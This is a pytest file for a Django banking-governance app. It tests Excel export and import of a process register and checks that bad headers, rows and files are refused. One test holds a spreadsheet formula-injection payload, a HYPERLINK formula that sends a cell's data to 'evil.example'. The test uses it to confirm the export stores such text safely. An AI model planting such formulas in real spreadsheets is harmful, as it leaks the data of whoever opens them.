"""The process register round-trips through Excel: export, edit, import gives the edited register; a renamed
or shuffled header, or a bad row, refuses the whole file with the reason."""

from __future__ import annotations

import io
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from finassure.governance import services
from finassure.governance.models import Process
from finassure.platform.errors import ValidationFailed
from tests.governance import factories as f

pytestmark = pytest.mark.django_db


def _rows(content: bytes) -> list[list[Any]]:
    return [list(r) for r in load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True)]


def _workbook(rows: list[list[Any]]) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_export_edit_import_gives_the_edited_register(org: Any, login_client: Any, author: Any) -> None:
    counter = f.make_process(org.beijing, code="counter", name="柜面服务")
    f.make_process(org.haidian, code="cards", name="银行卡业务")
    client = login_client(author)
    rows = _rows(client.get("/governance/processes/?format=xlsx").content)
    header, body = rows[0], rows[1:]
    for row in body:
        if row[1] == "counter":
            row[2], row[3] = "柜面服务（含远程柜员）", "Counter and remote teller services"
    body.append(["banking", "wealth-sales", "理财产品销售", "Wealth-management sales", org.haidian.code, True])
    upload = SimpleUploadedFile("processes.xlsx", _workbook([header, *body]))
    response = client.post("/governance/processes/import/", {"file": upload})
    assert response.status_code == 200, response.content.decode()[:500]
    counter.refresh_from_db()
    assert (counter.name, counter.name_en) == ("柜面服务（含远程柜员）", "Counter and remote teller services")
    assert Process.objects.get(code="wealth-sales").org_unit == org.haidian
    after = _rows(client.get("/governance/processes/?format=xlsx").content)
    assert sorted(map(tuple, after[1:])) == sorted(map(tuple, body))


def test_a_shuffled_header_is_refused_with_the_expected_columns(org: Any, author: Any) -> None:
    content = _workbook([["Code", "Business line code", "Name (Chinese)", "Name (English)", "Org unit code",
                          "Active"], ["x", "banking", "名", "", org.beijing.code, True]])
    with pytest.raises(ValidationFailed) as exc:
        services.process_import(actor=author, content=content)
    assert "in this order" in exc.value.message
    assert not Process.objects.exists()


def test_a_bad_row_refuses_the_whole_file_naming_the_row(org: Any, login_client: Any, author: Any) -> None:
    f.line(org.beijing)
    header = ["Business line code", "Code", "Name (Chinese)", "Name (English)", "Org unit code", "Active"]
    content = _workbook([header, ["banking", "ok", "好的流程", "", org.beijing.code, True],
                         ["nope", "bad one", "", "", "nowhere", True]])
    response = login_client(author).post("/governance/processes/import/",
                                         {"file": SimpleUploadedFile("p.xlsx", content)})
    body = response.content.decode()
    assert response.status_code == 400
    assert "row 3" in body and "unknown business line" in body and "unknown org unit" in body
    assert not Process.objects.exists()


def test_a_file_that_is_not_a_workbook_is_refused(author: Any) -> None:
    with pytest.raises(ValidationFailed):
        services.process_import(actor=author, content=b"code,name\nx,y\n")


def test_rows_outside_the_importers_units_are_refused(org: Any, author: Any) -> None:
    f.line(org.beijing)
    header = ["Business line code", "Code", "Name (Chinese)", "Name (English)", "Org unit code", "Active"]
    with pytest.raises(ValidationFailed) as exc:
        services.process_import(actor=author, content=_workbook([header, ["banking", "sh", "上海流程", "",
                                                                          org.shanghai.code, True]]))
    assert "row 2" in exc.value.fields


def test_text_that_looks_like_a_formula_is_exported_as_text_and_comes_back_the_same(
        org: Any, login_client: Any, author: Any) -> None:
    # openpyxl would store "=…" as a formula, run by the Excel of whoever opens the export (formula injection)
    payload = '=HYPERLINK("https://evil.example/?d="&A1,"详情")'
    f.make_process(org.beijing, code="counter", name=payload)
    client = login_client(author)
    content = client.get("/governance/processes/?format=xlsx").content
    cells = [c for row in load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2) for c in row]
    [cell] = [c for c in cells if c.value == payload]
    assert cell.data_type == "s"
    response = client.post("/governance/processes/import/", {"file": SimpleUploadedFile("p.xlsx", content)})
    assert response.status_code == 200, response.content.decode()[:500]
    assert Process.objects.get(code="counter").name == payload
